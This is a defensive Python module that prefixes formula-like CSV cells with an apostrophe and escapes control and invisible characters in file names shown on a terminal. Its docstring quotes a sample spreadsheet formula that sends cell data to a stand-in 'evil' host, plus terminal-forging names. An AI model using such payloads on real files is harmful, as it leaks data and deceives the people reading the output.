"""Output that cannot be turned against its reader: CSV cells that a spreadsheet would run as
formulas, and names that would forge or garble lines on a terminal.

CSV: a cell starting with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`, DDE payloads). Such a cell
is written with a leading apostrophe, which spreadsheets show as text and do not display (OWASP's
"CSV Injection" advice). A cell that is just a number ("-0.5", "+3", "1e-3") is left as it is.

    from app.safe_csv import SafeDictWriter, safe_writer
    writer = safe_writer(f)                 # like csv.writer(f)
    writer = SafeDictWriter(f, fieldnames)  # like csv.DictWriter(f, fieldnames)

Terminal: printable_name() escapes control characters (newline, carriage return, ESC and the rest
of C0/C1), bidirectional and other invisible format characters, line separators and undecodable
bytes of a file name, so a name like "a.pdf\\nOK: all files read" or "\\x1b[2J" prints as one
visible line.
"""
from __future__ import annotations

import csv
import os
import re
import unicodedata
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """`value`, with an apostrophe in front if it is a string a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(v) for v in row]


class _SafeWriter:
    """csv.writer's interface; every cell neutralised."""

    def __init__(self, writer):
        self._writer = writer

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(f, dialect: str | csv.Dialect = "excel", **fmtparams) -> _SafeWriter:
    """csv.writer(f, ...) whose cells are neutralised."""
    return _SafeWriter(csv.writer(f, dialect, **fmtparams))


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose cells (and header) are neutralised."""

    def __init__(self, f, fieldnames, *args, **kwargs):
        super().__init__(f, fieldnames, *args, **kwargs)
        self.writer = _SafeWriter(self.writer)


# --- names on a terminal ---------------------------------------------------------------------

_ESCAPED_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_SHORT = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def printable_name(name: str | bytes | os.PathLike) -> str:
    """`name` safe to print on one terminal line: control, format and unassigned characters escaped.

    "evil\\nOK.pdf" -> "evil\\\\nOK.pdf" (a backslash and an n, not a line break); ESC -> "\\\\x1b";
    U+202E (right-to-left override) -> "\\\\u202e"; an undecodable byte of a POSIX file name
    (surrogate-escaped by Python) -> "\\\\xNN". Ordinary letters of any script are kept.
    """
    if isinstance(name, os.PathLike):
        name = os.fspath(name)
    if isinstance(name, bytes):
        name = os.fsdecode(name)
    out = []
    for ch in name:
        if unicodedata.category(ch) not in _ESCAPED_CATEGORIES:
            out.append(ch)
        elif ch in _SHORT:
            out.append(_SHORT[ch])
        elif 0xDC80 <= ord(ch) <= 0xDCFF:  # a byte that was not valid in the file system's encoding
            out.append(f"\\x{ord(ch) - 0xDC00:02x}")
        elif ord(ch) <= 0xFF:
            out.append(f"\\x{ord(ch):02x}")
        elif ord(ch) <= 0xFFFF:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(f"\\U{ord(ch):08x}")
    return "".join(out)
